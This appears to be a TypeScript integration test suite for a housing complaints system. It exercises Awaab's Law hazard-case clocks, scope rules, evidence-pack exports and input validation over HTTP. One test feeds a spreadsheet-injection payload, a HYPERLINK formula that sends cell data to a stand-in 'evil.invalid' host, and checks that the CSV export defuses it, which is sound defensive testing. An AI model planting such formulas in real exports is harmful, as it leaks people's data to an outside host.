import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createEventStore } from '@redress/event-store';
import { startApi, type ApiHarness } from '../support/api-harness';

/**
 * Awaab's Law over HTTP on the embedded SQLite store (SI 2025/1042). Every working day below
 * is counted by hand on the calendar of November 2025 to January 2026 (no bank holiday falls in
 * November; 25, 26 December and 1 January are bank holidays in England).
 */
describe("Awaab's Law hazard cases over HTTP", () => {
  let api: ApiHarness;
  beforeAll(async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'redress-hazard-'));
    api = await startApi({
      store: await createEventStore({ kind: 'sqlite', dataDir }),
      today: '2025-11-03',
    });
  });
  afterAll(() => api.close());

  const post = (url: string, body: object, headers: Record<string, string> = {}) =>
    api.request({ method: 'POST', url, role: 'officer', body, headers });
  const get = (url: string) => api.request({ method: 'GET', url, role: 'auditor' });
  const clock = (view: { clocks: { step: string }[] }, step: string) =>
    view.clocks.find((c) => c.step === step);

  it('runs a damp and mould case reported in a complaint, with both clocks on each side', async () => {
    // Monday 3 November 2025: a complaint about black mould in a low-cost rental home.
    api.clock.today = '2025-11-03';
    const complaint = await post('/complaints', {
      channel: 'PHONE',
      residentRef: 'R-100',
      propertyRef: 'P-100',
      description: 'Black mould in the bedroom; my son has asthma',
    });
    expect(complaint.statusCode).toBe(201);
    const complaintId = complaint.json().id as string;

    const reported = await post('/hazards', {
      route: 'COMPLAINT',
      complaintId,
      tenure: 'SOCIAL_RENT_ASSURED',
      residentRef: 'R-100',
      propertyRef: 'P-100',
      description: 'Black mould in the bedroom',
    });
    expect(reported.statusCode).toBe(201);
    const { id } = reported.json();
    expect(reported.headers.location).toBe(`/hazards/${id}`);
    // HazardReported and ScopeDecided: revisions 0 and 1.
    expect(reported.json().revision).toBe(1);

    const classified = await post(`/hazards/${id}/classify`, {
      category: 'SIGNIFICANT',
      hazardType: 'DAMP_AND_MOULD',
      reason: 'Mould across the bedroom wall; a child with asthma',
    });
    expect(classified.statusCode).toBe(200);

    // Wednesday 5 November: Reg 6 investigation due Monday 17 November (10 working days after
    // 3 November: 4–7, 10–14, 17), so 8 remain (6, 7, 10–14, 17).
    api.clock.today = '2025-11-05';
    let view = (await get(`/hazards/${id}`)).json();
    expect(view).toMatchObject({
      id,
      status: 'investigating',
      awareAt: '2025-11-03T10:00:00.000Z',
      tenure: 'SOCIAL_RENT_ASSURED',
      scope: { inScope: true, basis: 'TENURE_IN_SCOPE', policyVersion: 'awaab-2025.1' },
      complaintIds: [complaintId],
    });
    expect(clock(view, 'INVESTIGATION')).toMatchObject({
      provision: 'SI 2025/1042 Reg 6',
      dueOn: '2025-11-17',
      status: 'pending',
      workingDaysRemaining: 8,
    });
    // The complaint's clock on the hazard: Stage 1 acknowledgement due 10 November (CHC 6.2).
    expect(view.complaints).toEqual([
      expect.objectContaining({
        id: complaintId,
        status: 'received',
        deadlines: [
          expect.objectContaining({ kind: 'STAGE1_ACKNOWLEDGEMENT', dueOn: '2025-11-10' }),
        ],
      }),
    ]);
    // And the hazard's clocks on the complaint.
    const onComplaint = (await get(`/complaints/${complaintId}`)).json();
    expect(onComplaint.hazardIds).toEqual([id]);
    expect(onComplaint.hazardCases).toEqual([
      expect.objectContaining({
        id,
        status: 'investigating',
        category: 'SIGNIFICANT',
        hazardType: 'DAMP_AND_MOULD',
        clocks: [
          expect.objectContaining({
            step: 'INVESTIGATION',
            dueOn: '2025-11-17',
            workingDaysRemaining: 8,
          }),
        ],
      }),
    ]);

    // Wednesday 12 November: the investigation concludes; preventative work is needed.
    api.clock.today = '2025-11-12';
    const concluded = await post(`/hazards/${id}/investigation`, {
      finding: 'HAZARD',
      reasons: 'Condensation from a failed extractor fan; mould on two walls',
      preventativeWorkRequired: true,
    });
    expect(concluded.statusCode).toBe(200);
    // Thursday 13 November: Reg 9 summary due 17 November (13, 14, 17), 2 left; Reg 11(2)(a)
    // safety work and Reg 13(2) preventative start due 19 November (13, 14, 17, 18, 19), 4 left.
    api.clock.today = '2025-11-13';
    view = (await get(`/hazards/${id}`)).json();
    expect(view.status).toBe('remedying');
    expect(clock(view, 'INVESTIGATION')).toMatchObject({ status: 'met' });
    expect(clock(view, 'WRITTEN_SUMMARY')).toMatchObject({
      provision: 'SI 2025/1042 Reg 9',
      dueOn: '2025-11-17',
      workingDaysRemaining: 2,
    });
    expect(clock(view, 'SAFETY_WORK')).toMatchObject({
      provision: 'SI 2025/1042 Reg 11(2)(a)',
      dueOn: '2025-11-19',
      workingDaysRemaining: 4,
    });
    expect(clock(view, 'PREVENTATIVE_WORK_START')).toMatchObject({
      provision: 'SI 2025/1042 Reg 13(2)',
      dueOn: '2025-11-19',
      workingDaysRemaining: 4,
    });

    expect(
      (
        await post(`/hazards/${id}/written-summary`, {
          method: 'LETTER',
          summary: 'We found damp and mould caused by a failed extractor fan',
        })
      ).statusCode,
    ).toBe(200);
    // Closing with steps outstanding is refused, and nothing is written.
    const early = await post(`/hazards/${id}/close`, { summary: 'Done' });
    expect(early.statusCode).toBe(409);
    expect(early.json()).toMatchObject({ code: 'STEPS_OUTSTANDING' });

    // Thursday 20 November: the safety work is a day late (due 19 November).
    api.clock.today = '2025-11-20';
    view = (await get(`/hazards/${id}`)).json();
    expect(clock(view, 'SAFETY_WORK')).toMatchObject({ status: 'missed', workingDaysOverdue: 1 });
    await post(`/hazards/${id}/safety-work`, { work: 'Mould wash and new extractor fan' });
    await post(`/hazards/${id}/preventative-work/start`, {
      work: 'Loft insulation and trickle vents',
      targetCompletionOn: '2026-01-30',
    });
    // Tuesday 20 January 2026: preventative work completed before its target; the case closes.
    api.clock.today = '2026-01-20';
    await post(`/hazards/${id}/preventative-work/complete`, {
      work: 'Loft insulation and trickle vents',
    });
    const closed = await post(`/hazards/${id}/close`, { summary: 'Home dry; resident content' });
    expect(closed.statusCode).toBe(200);

    view = (await get(`/hazards/${id}`)).json();
    expect(view.status).toBe('closed.resolved');
    expect(view.clocks.map((c: { step: string; status: string }) => [c.step, c.status])).toEqual([
      ['INVESTIGATION', 'met'],
      ['WRITTEN_SUMMARY', 'met'],
      ['SAFETY_WORK', 'missed'],
      ['PREVENTATIVE_WORK_START', 'missed'],
      ['PREVENTATIVE_WORK_COMPLETION', 'met'],
    ]);
    const events = (await get(`/hazards/${id}/events`)).json();
    expect(events.map((e: { type: string }) => e.type)).toEqual([
      'HazardReported',
      'ScopeDecided',
      'HazardClassified',
      'InvestigationConcluded',
      'WrittenSummarySent',
      'SafetyWorkCompleted',
      'PreventativeWorkStarted',
      'PreventativeWorkCompleted',
      'HazardClosed',
    ]);
    expect(events[0].metadata).toMatchObject({ actor: { id: 'officer-1', role: 'officer' } });
    // The auditors' history narrates the whole chain, as for a complaint.
    const history = (await get(`/hazards/${id}/history`)).json();
    expect(history.hazardId).toBe(id);
    expect(history.events).toHaveLength(9);
    expect(history.events[1]).toMatchObject({
      type: 'ScopeDecided',
      actor: 'officer-1',
      backdated: false,
      summary:
        "Awaab's Law clocks apply: SOCIAL_RENT_ASSURED is a social housing tenancy under policy awaab-2025.1",
    });
    expect(history.events[3]).toMatchObject({
      type: 'InvestigationConcluded',
      effectiveOn: '2025-11-12',
      reason: 'Condensation from a failed extractor fan; mould on two walls',
    });
    // The evidence pack: the whole chain verified, every step and clock, and the export logged.
    const exported = await get(`/hazards/${id}/export`);
    expect(exported.statusCode).toBe(200);
    expect(exported.json()).toMatchObject({
      hazardId: id,
      status: 'closed.resolved',
      complaintIds: [complaintId],
      intake: { route: 'COMPLAINT', tenure: 'SOCIAL_RENT_ASSURED', awareOn: '2025-11-03' },
      verification: { intact: true, events: 9 },
    });
    expect(exported.json().history).toHaveLength(9);
    const csv = await get(`/hazards/${id}/export?format=csv`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body).toContain('clock,SAFETY_WORK,status,missed');
    const html = await get(`/hazards/${id}/export?format=html`);
    expect(html.body).toContain(`<h1>Hazard case record ${id}</h1>`);
    expect(html.body).toContain('Hash chain verified: 9 events, unaltered.');
    const log = (await api.store.readAll()).filter((e) => e.stream.startsWith('audit-access-'));
    expect(log.map((e) => [e.type, (e.data as { hazardId?: string }).hazardId])).toEqual([
      ['HazardRecordExported', id],
      ['HazardRecordExported', id],
      ['HazardRecordExported', id],
    ]);
    expect((await get(`/hazards/${id}/export?format=pdf`)).statusCode).toBe(400);
    const complaintHistory = (await get(`/complaints/${complaintId}/history`)).json();
    expect(complaintHistory.events[1].summary).toBe(
      `Awaab's Law hazard case ${id} linked: its clocks run beside the complaint's`,
    );
    const complaintEvents = (await get(`/complaints/${complaintId}/events`)).json();
    expect(complaintEvents.map((e: { type: string }) => e.type)).toEqual([
      'ComplaintReceived',
      'HazardCaseLinked',
    ]);
  });

  it('runs the emergency 24-hour clock through Christmas Day, a bank holiday', async () => {
    // Aware at 09:00 UTC on Christmas Eve 2025; the 24 hours end at 09:00 on Christmas Day.
    api.clock.today = '2025-12-24';
    const reported = await post('/hazards', {
      route: 'CALL',
      at: '2025-12-24T09:00:00Z',
      tenure: 'SOCIAL_RENT_SECURE',
      residentRef: 'R-200',
      propertyRef: 'P-200',
      description: 'Smell of gas and a headache',
    });
    expect(reported.statusCode).toBe(201);
    const { id } = reported.json();
    await post(`/hazards/${id}/classify`, {
      category: 'EMERGENCY',
      hazardType: 'CARBON_MONOXIDE',
      reason: 'Suspected carbon monoxide',
    });
    // At 10:00 on Christmas Eve, 23 whole hours remain, a bank holiday notwithstanding.
    api.clock.today = '2025-12-25';
    let view = (await get(`/hazards/${id}?asOf=2025-12-24T10:00:00Z`)).json();
    expect(clock(view, 'EMERGENCY_MAKE_SAFE')).toMatchObject({
      unit: 'HOURS',
      dueAt: '2025-12-25T09:00:00.000Z',
      status: 'pending',
      hoursRemaining: 23,
    });
    // Made safe at 08:30 on Christmas Day (met); the findings written at 10:00 (an hour late).
    await post(`/hazards/${id}/make-safe`, {
      action: 'Boiler capped',
      at: '2025-12-25T08:30:00Z',
    });
    await post(`/hazards/${id}/investigation`, {
      finding: 'HAZARD',
      reasons: 'Flue disconnected',
    });
    view = (await get(`/hazards/${id}`)).json();
    expect(clock(view, 'EMERGENCY_MAKE_SAFE')).toMatchObject({ status: 'met' });
    expect(clock(view, 'EMERGENCY_INVESTIGATION')).toMatchObject({
      status: 'missed',
      hoursOverdue: 1,
    });
  });

  it('records the 12-week backstop, alternative accommodation and the reasonable endeavours defence', async () => {
    api.clock.today = '2025-11-03';
    const { id } = (
      await post('/hazards', {
        route: 'CALL',
        tenure: 'SOCIAL_RENT_SECURE',
        residentRef: 'R-700',
        propertyRef: 'P-700',
        description: 'Mould throughout the flat',
      })
    ).json();
    await post(`/hazards/${id}/classify`, {
      category: 'SIGNIFICANT',
      hazardType: 'DAMP_AND_MOULD',
      reason: 'Extensive mould',
    });
    // Tuesday 4 November: concluded; beginning the preventative work within 5 working days is
    // not reasonably practicable, so it must physically start within 12 weeks (Reg 13(3)(b)):
    // 4 November + 84 days = 27 January 2026.
    api.clock.today = '2025-11-04';
    await post(`/hazards/${id}/investigation`, {
      finding: 'HAZARD',
      reasons: 'Failed damp-proof course',
      preventativeWorkRequired: true,
    });
    const deferred = await post(`/hazards/${id}/preventative-work/defer`, {
      notReasonablyPracticableReason: 'Specialist contractor booked for January',
    });
    expect(deferred.statusCode).toBe(200);
    // Alternative accommodation is at the landlord's cost, or it is refused.
    api.clock.today = '2025-11-05';
    const offer = {
      accommodation: 'Two-bedroom flat at 4 Elm Court',
      reason: 'Bedroom unusable until the work is done',
      answer: 'ACCEPTED',
    };
    const unpaid = await post(`/hazards/${id}/alternative-accommodation`, {
      ...offer,
      atLandlordsCost: false,
    });
    expect(unpaid.statusCode).toBe(409);
    expect(unpaid.json().code).toBe('ACCOMMODATION_AT_LANDLORDS_COST');
    expect(
      (await post(`/hazards/${id}/alternative-accommodation`, { ...offer, atLandlordsCost: true }))
        .statusCode,
    ).toBe(200);
    // Wednesday 12 November: the safety work (due 11 November: 5, 6, 7, 10, 11) is a day late;
    // the defence is recorded with its evidence, and the clock stays missed.
    api.clock.today = '2025-11-12';
    const noEvidence = await post(`/hazards/${id}/reasonable-endeavours`, {
      step: 'SAFETY_WORK',
      explanation: 'No access',
      evidence: [],
    });
    expect(noEvidence.statusCode).toBe(400);
    expect(
      (
        await post(`/hazards/${id}/reasonable-endeavours`, {
          step: 'SAFETY_WORK',
          explanation: 'The resident refused access twice',
          evidence: ['Visit card 6 November', 'Call log 10 November'],
        })
      ).statusCode,
    ).toBe(200);
    const view = (await get(`/hazards/${id}`)).json();
    expect(clock(view, 'PREVENTATIVE_WORK_START')).toMatchObject({
      provision: 'SI 2025/1042 Reg 13(3)(b)',
      unit: 'WEEKS',
      dueOn: '2026-01-27',
      status: 'pending',
    });
    expect(clock(view, 'SAFETY_WORK')).toMatchObject({
      dueOn: '2025-11-11',
      status: 'missed',
      workingDaysOverdue: 1,
      reasonableEndeavours: {
        explanation: 'The resident refused access twice',
        evidence: ['Visit card 6 November', 'Call log 10 November'],
      },
    });
    expect(view.accommodationOffers).toEqual([
      expect.objectContaining({ accommodation: offer.accommodation, answer: 'ACCEPTED' }),
    ]);
  });

  it('records shared ownership as out of scope and refuses the clocks', async () => {
    api.clock.today = '2025-11-03';
    const reported = await post('/hazards', {
      route: 'EMAIL',
      tenure: 'SHARED_OWNERSHIP',
      residentRef: 'R-300',
      propertyRef: 'P-300',
      description: 'Mould in the bathroom',
    });
    expect(reported.statusCode).toBe(201);
    const { id } = reported.json();
    const view = (await get(`/hazards/${id}`)).json();
    expect(view).toMatchObject({
      status: 'outOfScope',
      scope: { inScope: false, basis: 'TENURE_OUT_OF_SCOPE', tenure: 'SHARED_OWNERSHIP' },
      clocks: [],
    });
    const refused = await post(`/hazards/${id}/classify`, {
      category: 'SIGNIFICANT',
      hazardType: 'DAMP_AND_MOULD',
      reason: 'Mould',
    });
    expect(refused.statusCode).toBe(409);
    expect(refused.json()).toMatchObject({
      code: 'OUT_OF_SCOPE',
      title: "Awaab's Law does not apply to this tenure",
    });
    expect((await get(`/hazards/${id}/events`)).json()).toHaveLength(2);
  });

  it('neutralises spreadsheet formulas in the evidence pack CSV, like every CSV Redress writes', async () => {
    api.clock.today = '2025-11-03';
    const reported = await post('/hazards', {
      route: 'EMAIL',
      tenure: 'SOCIAL_RENT_ASSURED',
      residentRef: '@SUM(1+1)',
      propertyRef: 'P-301',
      description: '=HYPERLINK("http://evil.invalid/?d="&A1,"click")',
    });
    expect(reported.statusCode).toBe(201);
    const csv = (await get(`/hazards/${reported.json().id}/export?format=csv`)).body;
    expect(csv).toContain(`'@SUM(1+1)`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.invalid/?d=""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)[=@]/m);
  });

  it('links a complaint later, once, and shows each on the other', async () => {
    api.clock.today = '2025-11-03';
    const hazard = (
      await post('/hazards', {
        route: 'REPAIR_REPORT',
        tenure: 'AFFORDABLE_RENT',
        residentRef: 'R-400',
        propertyRef: 'P-400',
        description: 'Damp patch spreading',
      })
    ).json();
    const complaint = (
      await post('/complaints', { channel: 'EMAIL', residentRef: 'R-400', description: 'Damp' })
    ).json();
    const linked = await post(`/hazards/${hazard.id}/complaints`, {
      complaintId: complaint.id.toUpperCase(),
    });
    expect(linked.statusCode).toBe(200);
    const again = await post(`/hazards/${hazard.id}/complaints`, { complaintId: complaint.id });
    expect(again.statusCode).toBe(409);
    expect(again.json().code).toBe('COMPLAINT_ALREADY_LINKED');
    expect((await get(`/complaints/${complaint.id}`)).json().hazardIds).toEqual([hazard.id]);
    expect((await get(`/hazards/${hazard.id}`)).json().complaintIds).toEqual([complaint.id]);
  });

  it('answers bad input with problem details and writes nothing', async () => {
    api.clock.today = '2025-11-03';
    const base = {
      route: 'CALL',
      tenure: 'SOCIAL_RENT_SECURE',
      residentRef: 'R-500',
      propertyRef: 'P-500',
      description: 'Mould',
    };
    const before = (await api.store.readAll()).length;
    const bad = await post('/hazards', { ...base, tenure: 'FREEHOLD', at: 'yesterday' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().code).toBe('VALIDATION_FAILED');
    expect(
      bad
        .json()
        .errors.map((e: { field: string }) => e.field)
        .sort(),
    ).toEqual(['at', 'tenure']);
    const noComplaint = await post('/hazards', { ...base, route: 'COMPLAINT' });
    expect(noComplaint.statusCode).toBe(409);
    expect(noComplaint.json().code).toBe('COMPLAINT_ID_REQUIRED');
    const missing = await post('/hazards', {
      ...base,
      route: 'COMPLAINT',
      complaintId: '00000000-0000-4000-8000-00000000abcd',
    });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().code).toBe('COMPLAINT_NOT_FOUND');
    const future = await post('/hazards', { ...base, at: '2025-11-04T10:00:00Z' });
    expect(future.statusCode).toBe(409);
    expect(future.json().code).toBe('TIME_IN_FUTURE');
    expect((await api.store.readAll()).length).toBe(before);

    const unknown = await post('/hazards/00000000-0000-4000-8000-00000000dcba/close', {
      summary: 'x',
    });
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json()).toMatchObject({
      code: 'HAZARD_NOT_FOUND',
      title: 'No such hazard case',
    });
    expect((await get('/hazards/not-a-uuid')).statusCode).toBe(400);
    expect((await get('/hazards/00000000-0000-4000-8000-00000000dcba?asOf=soon')).statusCode).toBe(
      400,
    );
  });

  it('keeps idempotency keys and If-Match as for complaints', async () => {
    api.clock.today = '2025-11-03';
    const body = {
      route: 'INSPECTION',
      tenure: 'SOCIAL_RENT_SECURE',
      residentRef: 'R-600',
      propertyRef: 'P-600',
      description: 'Mould in the kitchen',
    };
    const headers = { 'idempotency-key': 'inspection-2025-11-03-600' };
    const first = await post('/hazards', body, headers);
    const second = await post('/hazards', body, headers);
    expect(second.json()).toEqual(first.json());
    expect((await get(`/hazards/${first.json().id}/events`)).json()).toHaveLength(2);

    const stale = await post(
      `/hazards/${first.json().id}/classify`,
      { category: 'SIGNIFICANT', hazardType: 'DAMP_AND_MOULD', reason: 'Mould' },
      { 'if-match': '"0"' },
    );
    expect(stale.statusCode).toBe(412);
    expect(stale.json()).toMatchObject({
      code: 'REVISION_MISMATCH',
      title: 'The hazard case has changed',
    });
    const current = await post(
      `/hazards/${first.json().id}/classify`,
      { category: 'SIGNIFICANT', hazardType: 'DAMP_AND_MOULD', reason: 'Mould' },
      { 'if-match': '"1"' },
    );
    expect(current.statusCode).toBe(200);
    expect(current.headers.etag).toBe('"2"');
  });
});
